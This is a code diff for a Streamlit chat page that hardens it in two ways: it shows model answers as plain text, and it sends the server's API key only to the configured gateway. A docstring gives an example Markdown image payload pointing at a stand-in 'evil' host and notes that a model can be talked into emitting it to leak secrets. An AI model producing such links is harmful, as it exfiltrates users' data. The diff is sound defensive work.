@@ -1,12 +1,17 @@
 """The Streamlit chat page: `gemini-sse ui`, or `streamlit run` on this file.
 
 It reads answers with the package's own Python client (`Client.stream_text`), so it shows
-what any Python program would get, and `st.write_stream` renders each piece as it arrives.
+what any Python program would get, each piece as it arrives.
+
+Answers are shown as plain text, not Markdown (so not with `st.write_stream`, which
+renders Markdown): a model can be talked into writing `![](https://evil/?q=secret)`, and
+a rendered image would make the visitor's browser send that URL out.
 
 Settings come from the sidebar; `GEMINI_SSE_URL` and `GEMINI_SSE_API_KEY` (the same
 variables `gemini-sse ask` reads) give the defaults. The API key from the environment is
 used on the server side only and never put into a widget: widget values are sent to every
-browser that opens the page.
+browser that opens the page. It goes only to the gateway of `GEMINI_SSE_URL`: any visitor
+can edit the URL field, and must not get the key by pointing it at their own server.
 
 Streamlit runs this file as a script named `__main__` on every interaction; importing it
 as a module only defines the functions below.
@@ -72,6 +77,8 @@ def answer(url: str, api_key: str | None, turn: Turn, messages: list[dict[str, s
     """Stream one answer into the current chat message, filling in `turn` as it goes."""
     model = st.session_state.get("model") or None
     temperature = st.session_state.get("temperature")
+    shown = st.empty()
+    text = ""
     try:
         with (
             Client(url, api_key=api_key) as client,
@@ -81,13 +88,29 @@ def answer(url: str, api_key: str | None, turn: Turn, messages: list[dict[str, s
                 client.stream_text(messages, model=model, temperature=temperature)
             ) as pieces,
         ):
-            written = st.write_stream(pieces)
-        turn["answer"] = written if isinstance(written, str) else "".join(map(str, written))
+            for piece in pieces:
+                text += piece
+                shown.text(text)
+        turn["answer"] = text
     except GeminiSSEError as exc:
         if isinstance(exc, StreamError | IncompleteStreamError):
             turn["answer"] = exc.partial_text  # already on the page; kept for reruns
         turn["error"] = describe(exc)
         st.error(turn["error"])
+
+
+def api_key_for(url: str, typed_key: str) -> str | None:
+    """The key to send to `url`: the one typed in the page, else the environment's.
+
+    The environment's key goes only to the configured gateway (`$GEMINI_SSE_URL`, or the
+    default URL): the URL field is open to every visitor.
+    """
+    if typed_key.strip():
+        return typed_key.strip()
+    configured = os.environ.get("GEMINI_SSE_URL") or DEFAULT_URL
+    if url.strip().rstrip("/") != configured.strip().rstrip("/"):
+        return None
+    return os.environ.get("GEMINI_SSE_API_KEY") or None
 
 
 def sidebar() -> tuple[str, str | None]:
@@ -102,7 +125,8 @@ def sidebar() -> tuple[str, str | None]:
             type="password",
             key="api_key",
             help="Sent as `Authorization: Bearer …`. Empty: `$GEMINI_SSE_API_KEY` of the "
-            "machine running this page, if set; else no key.",
+            "machine running this page, if set, but only to the gateway URL it was started "
+            "with; else no key.",
         )
         st.text_input("Model", key="model", placeholder="the gateway's default")
         st.number_input(
@@ -116,8 +140,8 @@ def sidebar() -> tuple[str, str | None]:
         )
         if st.button("New chat"):
             st.session_state["turns"] = []
-    api_key = typed_key.strip() or os.environ.get("GEMINI_SSE_API_KEY") or None
-    return url.strip() or DEFAULT_URL, api_key
+    url = url.strip() or DEFAULT_URL
+    return url, api_key_for(url, typed_key)
 
 
 def main() -> None:
@@ -131,7 +155,7 @@ def main() -> None:
             st.markdown(turn["question"])
         with st.chat_message("assistant"):
             if turn["answer"]:
-                st.markdown(turn["answer"])
+                st.text(turn["answer"])
             if turn["error"]:
                 st.error(turn["error"])
 
